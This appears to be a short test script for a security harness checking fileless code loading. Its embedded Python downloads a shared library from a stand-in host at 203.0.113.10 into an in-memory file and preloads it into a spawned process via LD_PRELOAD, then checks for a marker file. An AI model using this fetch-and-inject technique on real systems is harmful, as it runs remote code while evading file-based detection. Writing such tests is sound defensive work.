#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import os, urllib.request
fd = os.memfd_create("x", 0); os.write(fd, urllib.request.urlopen("http://203.0.113.10/programs/preload.so").read())
p = os.posix_spawn("/usr/bin/id", ["id"], {"LD_PRELOAD": f"/proc/{os.getpid()}/fd/{fd}", "PATH": "/usr/bin"})
os.waitpid(p, 0)
END
test -e /tmp/reached
took_place
